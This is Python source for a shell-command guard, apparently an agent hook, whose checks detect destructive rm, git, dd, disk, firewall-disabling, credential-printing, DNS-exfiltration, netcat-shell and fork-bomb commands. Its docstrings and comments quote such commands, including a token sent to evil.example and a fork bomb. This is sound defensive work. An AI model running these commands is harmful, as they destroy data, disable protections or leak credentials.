"""The guard's named checks: what a rule's fields cannot say (where an `rm -rf` lands, what a
`git checkout` overwrites, which device `dd` writes). Loaded by guard_engine.py only when a
rule's program, subcommand and options already match, so that a hook process pays for them
only then. Each takes a command (after its wrappers) and the line's state, and says whether it
matches; the opt-in packs' checks are in guard_packs.py.

Stdlib only, Python 3.9+.
"""

from __future__ import annotations

import os
import posixpath

from .guard_rules import VALUE_OPTIONS, find_own, secret_words
from .guard_rules import git_subcommand as _git_subcommand
from .guard_rules import is_block_device as _is_block_device
from .shell import Command, glob_match, program_name
from .shell import cluster_or_long as _cluster_or_long
from .shell import copy_targets as _copy_targets
from .shell import has_option as _has_option
from .shell import listed_by as _listed_by
from .shell import operands as _operands

# For type checkers only: importing typing costs ~5 ms (see hookinput.py).
TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Any, Dict, Iterable, List, Optional, Protocol, Tuple

    class State(Protocol):
        """What the checks ask of the line a command is in (guard_engine.State; not imported
        from there: tests/test_architecture.py counts that as an import cycle)."""

        def classify(self, target: str) -> str: ...

        def classes(self, targets: Iterable[str]) -> List[str]: ...

        @property
        def guard(self) -> Any: ...

        @property
        def cwd(self) -> Optional[str]: ...


def _named(command: Command) -> List[str]:
    """An rm's operands as written: for one run by find -exec or fed by find, not `{}`."""
    return [word for word in _operands(command.args) if "{}" not in word] \
        if command.roots else _operands(command.args)


def _target_classes(command: Command, state: State) -> List[str]:
    """Where what an rm removes lands: its operands; for an rm run by find -exec or fed by
    find through xargs, find's start paths too (`find . | xargs rm -rf ~` removes ~ as well)."""
    return _root_classes(command.roots, command.narrowed, state) + state.classes(_named(command))


def _root_classes(roots: Iterable[str], narrowed: bool, state: State) -> List[str]:
    """Where find's start paths land; with a test that takes some files only, the project
    root itself counts as inside (`find . -name '*.pyc' -exec rm -rf {} +`), but not a folder
    that holds it (`find .. -name node_modules`: the sibling projects' too)."""
    classes = []
    for root in roots:
        where = state.classify(root)
        if narrowed and where == "project-root" and \
                state.classify(root.rstrip("/") + "/.hookwrap-probe") == "inside":
            where = "inside"
        classes.append(where)
    return classes


def _rm_root_or_home(command: Command, state: State) -> bool:
    return "root-or-home" in _target_classes(command, state)


def _rm_project_root(command: Command, state: State) -> bool:
    return "project-root" in _target_classes(command, state)


def _rm_outside(command: Command, state: State) -> bool:
    """-r of /etc, /usr..., of your home's folders, or of `*` where the directory is not
    known; with -f also anywhere else outside the project (not temp or ALLOWED_PATHS)."""
    classes = _target_classes(command, state)
    if any(c in ("system", "home", "all-of-unknown") for c in classes):
        return True
    return "outside" in classes and _has_option(command.args, "-f|--force")


def _rm_found_outside(command: Command, state: State) -> bool:
    """rm (any options) of each file that find -exec or fd -x finds outside the project."""
    return bool(command.roots) and any(
        c in ("root-or-home", "system", "home", "outside", "all-of-unknown")
        for c in _target_classes(command, state))


def _rm_git_dir(command: Command, state: State) -> bool:
    return any(posixpath.basename(target.rstrip("/")) == ".git"
               for target in (*command.roots, *_named(command)))


def _rm_dynamic(command: Command, state: State) -> bool:
    return command.dynamic_args and not command.roots


def _find_delete(command: Command, state: State) -> bool:
    """find -delete outside the project, or of all of it (no name, path, time or size test);
    find -exec rm (any options) outside it."""
    args = command.args
    classes = _root_classes(command.roots or (".",), command.narrowed, state)
    if "-delete" in find_own(args):  # not `-exec tool -delete {} ;`
        return any(c not in ("inside", "temp", "allowed", "unknown") for c in classes)
    runs = [args[i + 1] for i in range(len(args) - 1)
            if args[i] in ("-exec", "-execdir", "-ok", "-okdir")]
    if any(program_name(word) in ("rm", "unlink", "shred", "srm") for word in runs):
        return any(c in ("root-or-home", "outside", "system", "home", "all-of-unknown")
                   for c in classes)
    return False


_RSYNC_VALUES = ("-e", "--rsh", "--exclude", "--include", "--filter", "-f", "--files-from",
                 "--exclude-from", "--include-from", "--chmod", "-B", "-T", "-M", "--rsync-path")


def _rsync_delete(command: Command, state: State) -> bool:
    """rsync --delete (--del, any --delete-*) into /, your home, or outside the project;
    --remove-source-files of /, your home or the project (it moves them). Not with -n,
    --dry-run or --list-only: those only print what it would do."""
    args = command.args
    deletes = any(word == "--del" or word.startswith("--delete") for word in args)
    moves = "--remove-source-files" in args  # (--delay-updates is no delete)
    if not (deletes or moves):
        return False
    values = set(_RSYNC_VALUES)
    own = [word for index, word in enumerate(args)
           if not (index and args[index - 1] in values and "=" not in args[index - 1])]
    if _has_option(own, "-n|--dry-run|--list-only"):
        return False
    operands = _operands(args, values)
    if len(operands) < 2:
        return False
    if moves and any(":" not in word.split("/", 1)[0] and state.classify(word) in (
            "root-or-home", "system", "project-root") for word in operands[:-1]):
        return True
    if not deletes or ":" in operands[-1].split("/", 1)[0]:
        return False
    return state.classify(operands[-1]) in ("root-or-home", "system", "home", "outside",
                                            "project-root")


def _mv_root_or_home(command: Command, state: State) -> bool:
    _, sources = _copy_targets(command.args, "mv")
    return any(state.classify(source) in ("root-or-home", "system", "project-root")
               for source in sources)


def _recursive_root_or_home(command: Command, state: State) -> bool:
    return any(state.classify(word) == "root-or-home" for word in _operands(command.args)[1:])


def _asks_each(command: Command, rest: List[str]) -> bool:
    """git's --patch asks the user about each change (as `git clean -i` does), unless its
    answers are fed in (`yes | git restore -p .`)."""
    return _has_option(rest, "-p|--patch") and not command.upstream and \
        not any(redirect.op[:1] == "<" and redirect.fd in ("", "0")
                for redirect in command.redirects)


def _checkout_discards(command: Command, state: State) -> bool:
    _, rest = _git_subcommand(command)
    if _asks_each(command, rest):
        return False
    if "--" in rest:  # paths follow; from xargs or parallel they come when it runs
        return len(rest) > rest.index("--") + 1 or command.dynamic_args
    if any(word in ("-b", "-B", "--orphan") or word.startswith("--orphan=") for word in rest):
        return False
    if any(word.startswith("--pathspec-from-file") for word in rest):
        return True
    operands = _operands(rest, {"-t", "--track", "--conflict"})
    if "." in operands or any(o in ("*", "./", ":/") for o in operands):
        return True
    return len(operands) >= 2  # `git checkout REF PATH`


def _restore_discards(command: Command, state: State) -> bool:
    _, rest = _git_subcommand(command)
    if _has_option(rest, "-h|--help") or _asks_each(command, rest):
        return False
    staged = _has_option(rest, "-S|--staged")
    worktree = _has_option(rest, "-W|--worktree")
    if staged and not worktree:
        return False
    return bool(_operands(rest, {"-s", "--source"})) or command.dynamic_args or \
        any(word.startswith("--pathspec-from-file") for word in rest)


def _branch_force_delete(command: Command, state: State) -> bool:
    _, rest = _git_subcommand(command)
    if any(word.startswith("-") and not word.startswith("--") and "D" in word for word in rest):
        return True
    return _has_option(rest, "-d|--delete") and _has_option(rest, "-f|--force")


def _reflog_expire(command: Command, state: State) -> bool:
    sub, rest = _git_subcommand(command)
    if sub in ("prune", "reflog") and _has_option(rest, "-n|--dry-run"):
        return False  # it says what it would delete
    now = any(word.split("=", 1)[-1] in ("now", "all") for word in rest)  # `now`, `--expire=now`
    if sub == "reflog":
        return bool(rest) and (rest[0] == "delete" or (rest[0] == "expire" and now))
    if sub == "gc":
        return any(word.startswith("--prune=") and word.split("=", 1)[1] in ("now", "all")
                   for word in rest)
    return sub == "prune"


def _git_rm_force(command: Command, state: State) -> bool:
    """git rm -f (not --cached): deletes files with changes git has not stored. Read after
    `rm` only: git's own options before it (`git -C -n rm -f`) are not rm's."""
    _, rest = _git_subcommand(command)
    return _has_option(rest, "-f|--force") and not _has_option(rest, "--cached|-n|--dry-run")


def _update_ref_delete(command: Command, state: State) -> bool:
    _, rest = _git_subcommand(command)
    return _has_option(rest, "-d") or (bool(rest) and rest[0] == "--stdin")


def _push_force(command: Command, state: State) -> bool:
    _, rest = _git_subcommand(command)  # (the rule's sub is push)
    if any(word == "--force" or (word.startswith("--forc") and "--force".startswith(word))
           for word in rest if word != "--"):
        return True
    if any(word.startswith("-") and not word.startswith("--") and "f" in word[1:]
           for word in rest):
        return True
    return any(word.startswith("+") and len(word) > 1 for word in _operands(rest, {"-o"}))


def _push_lease(command: Command, state: State) -> bool:
    _, rest = _git_subcommand(command)
    return any(len(word.split("=", 1)[0]) > len("--force") and
               "--force-with-lease".startswith(word.split("=", 1)[0]) for word in rest)


def _push_deletes(command: Command, state: State) -> bool:
    _, rest = _git_subcommand(command)
    if _has_option(rest, "-d|--delete|--mirror|--prune"):
        return True
    return any(word.lstrip("+").startswith(":") and len(word.lstrip("+")) > 1
               for word in _operands(rest, {"-o", "--repo", "--receive-pack", "--exec"})[1:])


_CREDENTIAL_COMMANDS = {
    "kubectl": (("config", "view"),), "gh": (("auth", "token"),),
    "aws": (("configure", "get"), ("configure", "export-credentials"),
            ("sts", "get-session-token"), ("ecr", "get-login-password")),
    "gcloud": (("auth", "print-access-token"), ("auth", "print-identity-token"),
               ("auth", "application-default", "print-access-token"),
               ("config", "config-helper")),
    "az": (("account", "get-access-token"),), "heroku": (("auth:token",),),
    "doctl": (("auth", "token"),), "vault": (("print", "token"),),
    "security": (("find-generic-password",), ("find-internet-password",), ("dump-keychain",)),
    # 1Password's own session token; `op read` reads an item, as `vault kv get` does.
    "npm": (("token", "list"),), "op": (("signin",),),
}


# Logins that read the password on stdin: a token piped into one is used, never shown, when
# the registry is the one the token is for (`gh auth token | docker login evil.example` sends it
# away).
_STDIN_LOGINS = {"docker": ("login",), "podman": ("login",), "nerdctl": ("login",),
                 "buildah": ("login",), "skopeo": ("login",), "oras": ("login",),
                 "helm": ("registry", "login"), "crane": ("auth", "login"),
                 "finch": ("login",)}
_LOGIN_VALUES = frozenset(("-u", "--username", "-p", "--password", "--authfile", "--config",
                           "--registry-config", "--ca-file", "--cert-file", "--key-file",
                           "--cert-dir"))
# The registries each printer's token is for (a host, or a domain it ends with).
_TOKEN_REGISTRIES = {"aws": ("amazonaws.com", "public.ecr.aws"), "gh": ("ghcr.io",
                     "docker.pkg.github.com"), "gcloud": ("gcr.io", "pkg.dev")}


def _into_login(command: Command) -> bool:
    """Whether the command's whole output goes down a pipe into a login's `--password-stdin`
    for the registry its token is for (`aws ecr get-login-password | docker login -u AWS
    --password-stdin 123.dkr.ecr.us-east-1.amazonaws.com`)."""
    login = command.piped_to
    if login is None or any(r.fd in ("", "1") and r.op[0] in ">&" for r in command.redirects):
        return False  # (`> file`, `>&2`, `&>`: the output goes elsewhere too)
    shape = _STDIN_LOGINS.get(login.program)
    if shape is None or not _has_option(login.args, "--password-stdin"):
        return False
    operands = _operands(login.args, (*VALUE_OPTIONS.get(login.program, ()), *_LOGIN_VALUES))
    if operands[:len(shape)] != list(shape) or len(operands) != len(shape) + 1:
        return False
    host = operands[-1].lower().split("://")[-1].split("/")[0]
    return any(host == domain or host.endswith("." + domain)
               for domain in _TOKEN_REGISTRIES.get(command.program, ()))


def _prints_credentials(command: Command, state: State) -> bool:
    """A CLI printing its stored credentials (`gh auth token`, `kubectl config view --raw`)."""
    shapes = _CREDENTIAL_COMMANDS.get(command.program)
    if not shapes:
        return False
    operands = _operands(command.args, VALUE_OPTIONS.get(command.program, ()))
    for shape in shapes:
        if operands[:len(shape)] == list(shape):
            if command.program == "kubectl":
                return _has_option(command.args, "--raw|--flatten")
            if command.program == "security":
                return _has_option(command.args, "-w|-g") or shape[0] == "dump-keychain"
            if shape == ("signin",):
                return _has_option(command.args, "--raw")
            if _into_login(command):
                return False
            if shape == ("configure", "get"):  # a setting: region and output are no secret
                return any(word in operands[2].lower() for word in (
                    "key", "secret", "token", "password", "credential")) \
                    if len(operands) > 2 else False
            return True
    return False


def _dd_device(command: Command, state: State) -> bool:
    """dd of= a device, or over a file outside the project (`of=~/.zshrc`)."""
    return any(word.startswith("of=") and (_is_block_device(word[3:]) or (
        not word.startswith("of=/dev/") and state.classify(word[3:]) in (
            "root-or-home", "system", "home"))) for word in command.args)


def _formats_device(command: Command, state: State) -> bool:
    """mkfs and friends on a device (or a path only known when it runs), not on an image
    file in the project (`mkfs.ext4 -F build/disk.img`)."""
    return any(word.startswith("/dev/") or "$" in word or state.classify(word) in (
        "system", "root-or-home") for word in _operands(command.args, {"-L", "-b", "-t", "-n",
                                                                       "-O", "-E", "-U", "-N"}))


def _images_only(words: List[str], state: State) -> bool:
    """Whether a disk tool's operands are all files in the project or a temporary folder
    (an image it builds, `parted -s build/disk.img mklabel gpt`): none a device, a link to
    one, or a path only known when it runs."""
    for word in words:
        if word.startswith("/dev/") or "$" in word or "`" in word or \
                state.classify(word) not in ("inside", "temp", "allowed"):
            return False
        if (word.startswith("/") or state.cwd) and \
                os.path.realpath(os.path.join(state.cwd or "/", word)).startswith("/dev/"):
            return False
    return bool(words)


def _wipes(command: Command, state: State) -> bool:
    """shred/srm/wipe of a device or of files outside the project; wipefs that erases, but
    not an image file in the project."""
    if command.program == "wipefs":
        return _has_option(command.args, "-a|--all|-o|--offset") and \
            not _has_option(command.args, "-n|--no-act") and \
            not _images_only(_operands(command.args, {"-o", "--offset", "-t", "--types"}), state)
    return any(_is_block_device(word) or state.classify(word) in (
        "root-or-home", "system", "home", "outside", "project-root", "all-of-unknown")
        for word in _operands(command.args, {"-n", "--iterations", "-s", "--size",
                                             "--random-source"}))


# The subcommands (first operands) that destroy a volume or switch security off, per program
# (disk.volume-destroy's and system.security-off's checks; systemctl's are in its check).
_DESTROYING = {
    "zpool": ("destroy", "labelclear"), "zfs": ("destroy",), "nvme": ("format", "sanitize"),
    "cryptsetup": ("luksFormat", "erase", "luksErase", "luksKillSlot", "reencrypt"),
    "nft": ("flush",), "ufw": ("disable", "reset"), "csrutil": ("disable",),
    "setenforce": ("0", "Permissive", "permissive"),
}


def _destroying(program: str, operands: List[str]) -> bool:
    return bool(operands) and operands[0] in _DESTROYING.get(program, ())


def _volume_destroy(command: Command, state: State) -> bool:
    """Deleting volumes, pools or their headers: lvremove, vgremove, zpool destroy, zfs
    destroy, cryptsetup luksFormat/erase, mdadm --zero-superblock, hdparm's security erase."""
    program, args = command.program, command.args
    operands = _operands(args)
    if "--help" in args:
        return False
    if program == "cryptsetup":
        return _destroying(program, operands) and not _images_only(operands[1:], state)
    if program == "mdadm":
        return _has_option(args, "--zero-superblock")
    if program == "hdparm":
        return any(word.startswith(("--security-erase", "--trim-sector", "--make-bad-sector"))
                   for word in args)
    return program in ("lvremove", "vgremove", "pvremove") or _destroying(program, operands)


# parted's commands that write the label (print, unit, align-check, help only read).
_PARTED_WRITES = ("mklabel", "mktable", "mkpart", "mkpartfs", "rm", "resizepart", "resize",
                  "move", "rescue", "name", "set", "toggle", "disk_set", "disk_toggle", "type",
                  "cp", "mkfs")
# sgdisk's options that only read or print (-P, --pretend, changes nothing on the disk);
# those of them that take a value, then the others.
_SGDISK_READ_VALUES = ("-i", "--info", "-b", "--backup", "-a", "--set-alignment")
_SGDISK_READS = ("-p", "--print", "-v", "--verify", "-O", "--print-mbr", "-L", "--list-types",
                 "-D", "--display-alignment", "-E", "--end-of-largest", "-f",
                 "--first-in-largest", "-F", "--first-aligned-in-largest", "-?", "--help",
                 "-V", "--version", "-P", "--pretend", "--usage")
# sfdisk's getters: a partition's type, label, uuid or attributes, or the disk's id, read
# when no new value follows (`sfdisk --part-type /dev/sda 1` prints, `... 1 83` sets).
_SFDISK_GETS = {"--part-type": 2, "--part-label": 2, "--part-uuid": 2, "--part-attrs": 2,
                "--disk-id": 1}


def _partition_edit(command: Command, state: State) -> bool:
    """fdisk, gdisk, sfdisk, sgdisk and parted that write a partition table, or open one to
    edit it; not their listing, printing, dumping, verifying or dry-run modes."""
    args = command.args
    program = command.program
    operands = _operands(args)
    if _images_only(operands, state):
        return False  # an image file's table (`sgdisk -n 1:0:+100M build/disk.img`)
    if program == "parted":
        writes = any(word in _PARTED_WRITES for word in operands[1:])
        if writes or _has_option(args, "-l|--list|-h|--help|-v|--version"):
            return writes
        return len(operands) == 1  # no command: it reads them from its input
    if program == "sgdisk":
        if "-P" in args or "--pretend" in args:
            return False
        words = iter(args)
        for word in words:
            name = word.split("=", 1)[0]
            if name in _SGDISK_READ_VALUES and "=" not in word:
                next(words, None)
            elif word.startswith("-") and name not in _SGDISK_READ_VALUES + _SGDISK_READS:
                return True
        return False
    if program == "sfdisk":
        if _has_option(args, "-n|--no-act"):
            return False  # does everything but write
        gets = [option for option in _SFDISK_GETS if option in args]
        if gets:
            return len(operands) > _SFDISK_GETS[gets[0]]
        return not _has_option(args, "-l|--list|-F|--list-free|-d|--dump|-J|--json|-s|"
                                     "--show-size|-V|--verify|-g|--show-geometry|-T|"
                                     "--list-types|-h|--help|-v|--version") and bool(operands)
    # fdisk, gdisk, cfdisk: a device without -l opens it to edit
    return not _has_option(args, "-l|--list|-x|--list-details|-h|--help|-V|--version|-s|"
                                 "--getsz") and bool(operands)


def _diskutil_erase(command: Command, state: State) -> bool:
    operands = _operands(command.args)
    if operands and operands[0] == "apfs":
        return len(operands) > 1 and operands[1].startswith(("delete", "erase"))
    return True


def _rm_unknown(command: Command, state: State) -> bool:
    """rm -r of a path only known when it runs (`rm -rf "$DIR"`, `rm -rf $(cat list)`), unless
    a literal start puts it inside the project or a temporary folder (`build/$NAME`,
    `$(mktemp -d)`), or a literal end names one entry below the run-time folder that the
    guard protects nowhere (`"$BUILD_DIR/out"`, see _named_below)."""
    for target in _named(command):
        if ("$" not in target and "`" not in target) or state.classify(target) != "unknown":
            continue  # (a relative path after `cd $DIR` is cd's question, not this rule's)
        if target.startswith(("$(mktemp", "`mktemp")) or _finds_inside(target, state):
            continue
        head = target[:min(i for i in (target.find("$"), target.find("`"), len(target))
                           if i >= 0)]
        if "/" in head:
            if ".." not in head and state.classify(
                    head.rpartition("/")[0] or "/") in ("inside", "temp", "allowed"):
                continue
        elif not head.startswith("~") and _named_below(_after_expansions(target), state):
            continue
        return True
    return False


def _finds_inside(target: str, state: State) -> bool:
    """Whether an rm target is all the output of a find or fd that lists the project's,
    a temporary folder's or ALLOWED_PATHS' files (`rm -rf $(find . -name __pycache__)`), as
    `find . -name __pycache__ | xargs rm -rf` is read; the whole project only with a test
    that takes some files."""
    if target[:2] == "$(" and target[-1:] == ")" and target.count("$(") == 1:
        inner = target[2:-1]
    elif target[:1] == "`" and target[-1:] == "`" and target.count("`") == 2:
        inner = target[1:-1]
    else:
        return False
    listed = _listed_by(inner)
    if listed is None:
        return False
    return all(where in ("inside", "temp", "allowed") for where in _root_classes(
        listed[0], listed[1], state))


# Your home directory's own folders: `rm -rf "$D/Documents"` with D your home loses them.
_HOME_FOLDERS = frozenset(("desktop", "documents", "downloads", "music", "pictures", "videos",
                           "movies", "public", "templates", "library", "applications"))


def _after_expansions(word: str) -> str:
    """What follows the last $NAME, ${...}, $(...) or `...` of a word (the whole word when it
    has none; "" when one is not closed)."""
    end, index, size = 0, 0, len(word)
    while index < size:
        char = word[index]
        if char == "`":
            close = word.find("`", index + 1)
            if close < 0:
                return ""
            index = end = close + 1
            continue
        if char != "$" or index + 1 >= size:
            index += 1
            continue
        nxt = word[index + 1]
        if nxt in "({":
            depth, index = 0, index + 1
            while index < size:
                if word[index] in "({":
                    depth += 1
                elif word[index] in ")}":
                    depth -= 1
                    if depth == 0:
                        break
                index += 1
            if index >= size:
                return ""
            index = end = index + 1
        elif nxt.isalnum() or nxt == "_":
            index += 1
            while index < size and (word[index].isalnum() or word[index] == "_"):
                index += 1
            end = index
        else:  # $@, $*, $#, $?, $$, $!, $-
            index = end = index + 2
    return word[end:]


def _named_below(tail: str, state: State) -> bool:
    """Whether the literal end of a run-time path names one entry below the run-time folder
    (`/out`, `/node_modules`, `/*.o`), and not a thing the guard protects were that folder
    empty, your home directory or the project: not the folder itself (`/`, `/*`, `/.*`,
    `/..`), not a system folder (`/etc`, `/usr/lib`), not credentials, start-up or hook files
    (`/.ssh`, `/.config`, `/.bashrc`, `/.claude`), not .git, not your home's own folders."""
    if not tail.startswith("/"):
        return False  # `${NAME}_old`: the last part of the name is made when it runs
    parts = tail.strip("/").split("/")
    for part in parts:
        if part == ".git" or not any(c.isalnum() for c in part if c not in "*?[]"):
            return False
    if parts[0].lower() in _HOME_FOLDERS:
        return False
    relative = "/".join(parts)
    if state.classify("/" + relative) in ("system", "root-or-home"):
        return False
    guard = state.guard
    return not any(guard.check_file(base + "/" + relative, base, "remove", "")
                   for base in (guard.home, guard.root))


def _switch_discards(command: Command, state: State) -> bool:
    """git switch/checkout -f, --force, --discard-changes; a letter after -b, -B, -c, -C or
    --orphan's is part of the new branch's name (`-bfix`, `-cfeature`)."""
    return _cluster_or_long(_git_subcommand(command)[1], "f", "bBcC", lambda name: len(
        name) >= 4 and ("--force".startswith(name) or "--discard-changes".startswith(name)))


def _schedules(command: Command, state: State) -> bool:
    """crontab that installs, edits or removes a table (not -l); launchctl that loads,
    bootstraps, enables or submits a job."""
    if command.program == "crontab":
        return not _has_option(command.args, "-l|--list|-h|--help|-V")
    operands = _operands(command.args)
    return bool(operands) and operands[0] in ("load", "bootstrap", "enable", "submit",
                                              "asuser")


_SECRET_NAMES = ("KEY", "TOKEN", "SECRET", "PASS", "CRED", "AUTH", "SESSION", "COOKIE")


def _dns_exfiltration(command: Command, state: State) -> bool:
    """A DNS lookup of a name made from a variable or a command's output next to a literal
    label (`dig $(... | base64).example.com`, `nslookup $TOKEN.example.com`), or from a
    variable whose name says it holds a secret."""
    for word in _operands(command.args):
        if "$" not in word and "`" not in word:
            continue
        if any(name in word.upper() for name in _SECRET_NAMES):
            return True
        literal = word
        for opener, closer in (("$(", ")"), ("`", "`"), ("${", "}")):
            while opener in literal:
                start = literal.index(opener)
                end = literal.find(closer, start + len(opener))
                literal = literal[:start] + literal[end + 1:] if end > 0 else literal[:start]
        if "." in literal.strip(".$") or literal.startswith(".") or literal.endswith("."):
            return True
    return False


def _power(command: Command, state: State) -> bool:
    """shutdown, reboot, halt, poweroff; init/telinit 0 or 6; systemctl or loginctl
    poweroff/reboot/halt/suspend; kill of every process (`kill -9 -1`). Not what only asks
    or cancels: `shutdown -c` (cancel), `--show`, `-k` (warnings only), `reboot -w` (a wtmp
    record only), --help."""
    program, args = command.program, command.args
    operands = _operands(args)
    if program in ("shutdown", "reboot", "halt", "poweroff"):
        if "--help" in args:  # (shutdown -h is halt)
            return False
        if program == "shutdown":
            return not (_has_option(args, "-c|--show") or ("-k" in args and not _has_option(
                args, "-H|--halt|-P|--poweroff|-r|--reboot|-h")))
        return not _has_option(args, "-w|--wtmp-only")
    if program in ("init", "telinit"):
        return operands[:1] in (["0"], ["6"], ["1"])
    if program in ("systemctl", "loginctl"):
        return "--help" not in args and "-h" not in args and operands[:1] in (["poweroff"], ["reboot"], ["halt"], ["kexec"], ["kill-user"],
                                ["kill-session"], ["terminate-user"], ["emergency"],
                                ["rescue"])
    return "-1" in args[args.index("--") + 1:] if "--" in args else \
        any(word == "-1" for word in args[1:]) or args[-1:] == ["-1"]


_SECURITY_UNITS = ("firewalld", "ufw", "apparmor", "auditd", "selinux", "nftables",
                   "iptables", "fail2ban", "sshguard", "crowdstrike", "falcon-sensor")


def _security_off(command: Command, state: State) -> bool:
    program, args = command.program, command.args
    operands = _operands(args)
    if program in ("iptables", "ip6tables"):
        return _has_option(args, "-F|--flush|-X|--delete-chain") or (
            _has_option(args, "-P|--policy") and "ACCEPT" in args)
    if program == "spctl":
        return _has_option(args, "--master-disable|--global-disable|--disable")
    if program == "auditctl":
        return _has_option(args, "-D|-e") and ("-D" in args or "0" in args)
    if program in ("systemctl", "service"):
        words = [word.lower() for word in operands]
        return any(verb in words for verb in ("stop", "disable", "mask", "kill")) and \
            any(word.split(".", 1)[0] in _SECURITY_UNITS for word in words)
    return program == "aa-teardown" or _destroying(program, operands)


def _netcat_shell(command: Command, state: State) -> bool:
    """netcat running a program for whoever connects (-e/-c), socat's exec:/system:, and a
    shell whose input or output is a /dev/tcp or /dev/udp connection."""
    program, args = command.program, command.args
    if program in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"):
        return _has_option(args, "-e|-c|--exec|--sh-exec|--lua-exec")
    if program == "socat":
        return any(word.lower().startswith(("exec:", "system:")) or
                   ",exec:" in word.lower() for word in args)
    return False


_CODE_KEYS = ("core.hookspath", "core.fsmonitor", "diff.external", "core.gitproxy",
              "gpg.program", "core.askpass", "merge.tool")


def _config_runs_code(command: Command, state: State) -> bool:
    """git config setting a key whose value git runs later (not --get, --list, --unset)."""
    _, rest = _git_subcommand(command)
    if _has_option(rest, "--get|--get-all|--get-regexp|-l|--list|--unset|--unset-all|-e|"
                         "--edit|--show-origin|--name-only"):
        return False
    operands = _operands(rest, {"-f", "--file", "--blob", "--type"})
    if operands[:1] == ["set"]:  # git 2.46: git config set KEY VALUE
        operands = operands[1:]
    if len(operands) < 2:
        return False
    key = operands[0].lower()
    if key == "core.hookspath":  # hooks kept in the project (.githooks, .husky) are its own
        return state.classify(operands[1]) not in ("inside", "project-root")
    return key in _CODE_KEYS or (key.startswith("filter.") and
                                 key.endswith((".clean", ".smudge", ".process")))


def _code_paths(args: List[str], _: object = None) -> List[str]:
    """Protected paths written out in code given on the command line (a quoted path)."""
    found: List[str] = []
    for word in args:
        if "/" in word and (" " in word or '"' in word or "'" in word):
            for quote in ('"', "'"):
                pieces = word.split(quote)[1::2]
                found += [piece for piece in secret_words(pieces) if "/" in piece]
    return found



def _sed_writes(args: List[str], _: object = None) -> List[Tuple[str, str]]:
    """The files a sed script writes with its `w FILE` command or `s///w FILE` flag."""
    scripts = [args[i + 1] for i in range(len(args) - 1) if args[i] in ("-e", "--expression")]
    if not scripts:
        operands = _operands(args)
        scripts = operands[:1]
    changes: List[Tuple[str, str]] = []
    for script in scripts:
        for piece in script.replace(";", "\n").split("\n"):
            at = max(piece.find("w "), piece.find("W "))
            if at >= 0:
                target = piece[at + 2:].strip()
                if target[:1] in ("/", "~", ".", "$"):
                    changes.append(("write", target))
    return changes



def _glob_takes(glob: str, pattern: str) -> bool:
    """Whether a removed glob (relative, lowered) takes a protected path's folder: `.c*` takes
    .claude/settings.json (a glob starts a dotted name only when it starts with a dot)."""
    parts = pattern.rstrip("/").split("/")
    depth = glob.count("/") + 1
    if depth > len(parts):
        return False
    head = "/".join(parts[:depth])
    if parts[depth - 1].startswith(".") and not glob.rpartition("/")[2].startswith("."):
        return False
    return glob_match(head, glob)


def _public_material(path: str, _: object = None) -> bool:
    """Whether a .pem or .key file holds certificates or a public key only: by its text when it
    can be read (a private key's block says PRIVATE KEY), else by its name (cert, chain, ca,
    bundle for a .pem; pub, public for either)."""
    name = os.path.basename(path).lower()
    try:
        with open(path, "rb") as file:
            text = file.read(1 << 16)
    except OSError:
        if "pub" in name and "priv" not in name:
            return True
        return name.endswith(".pem") and "key" not in name and any(word in name for word in (
            "cert", "chain", "bundle", "ca.", "ca-", "-ca", "_ca", "root", "intermediate",
            "trust", "x509", "crt"))
    return b"PRIVATE KEY" not in text and (b"CERTIFICATE" in text or b"PUBLIC KEY" in text)


def _fork_bomb_line(line: str, _: object = None) -> bool:
    """A function that runs itself twice in the background (`:(){ :|:& };:`), or a loop of
    fork() calls in interpreter code (`perl -e 'fork while fork'`)."""
    flat = "".join(line.split())
    if "forkwhilefork" in flat or any(loop in flat for loop in (
            "while1:os.fork()", "whileTrue:os.fork()", "while(1){fork", "while(true){fork",
            "loop{fork", "whiletrue;dofork")):
        return True
    at = flat.find("(){")
    while at > 0:
        start = at
        while start > 0 and flat[start - 1] not in ";&|\n{}()":
            start -= 1
        name = flat[start:at]
        if name.startswith("function"):
            name = name[len("function"):]
        end = flat.find("}", at)
        body = flat[at + 3:end if end > 0 else len(flat)]
        if name and body.count(name) >= 2 and ("&" in body or "|" in body):
            return True
        at = flat.find("(){", at + 3)
    return False



def _unknown_program_as(command: Command, state: State) -> bool:
    """A program word made when the line runs (`$X -rf ~`, `$(echo rm) -rf ~`): whether the
    same arguments break a rule for rm, git, dd, find, shred or chmod."""
    from .shell_syntax import Word

    for program in ("rm", "git", "dd", "find", "shred", "chmod"):
        guess = Command([Word(program, program), *command.words[1:]], command.redirects,
                        command.via)
        guess.dynamic_args, guess.roots = command.dynamic_args, command.roots
        if state.guard._check_command(guess, state, None) is not None:
            return True
    return False


# The checks the guard's rules name (``check=``), each the function ``_<name>`` here, called
# with two arguments (guard_engine.py's ``_check``).
CHECKS: Dict[str, Any] = {name: globals()["_" + name] for name in (
    "fork_bomb_line", "public_material", "glob_takes", "sed_writes", "code_paths",
    "unknown_program_as", "config_runs_code", "power", "security_off", "netcat_shell",
    "rm_unknown", "switch_discards", "schedules", "dns_exfiltration", "rm_root_or_home",
    "rm_project_root", "rm_outside", "rm_dynamic", "find_delete", "mv_root_or_home",
    "recursive_root_or_home", "checkout_discards", "restore_discards", "branch_force_delete",
    "reflog_expire", "push_force", "push_lease", "push_deletes", "dd_device", "partition_edit",
    "diskutil_erase", "rm_git_dir", "rm_found_outside", "rsync_delete", "formats_device", "wipes",
    "volume_destroy", "git_rm_force", "update_ref_delete", "prints_credentials",
)}
# The opt-in packs' checks: guard_packs.py, loaded only when a pack is on.
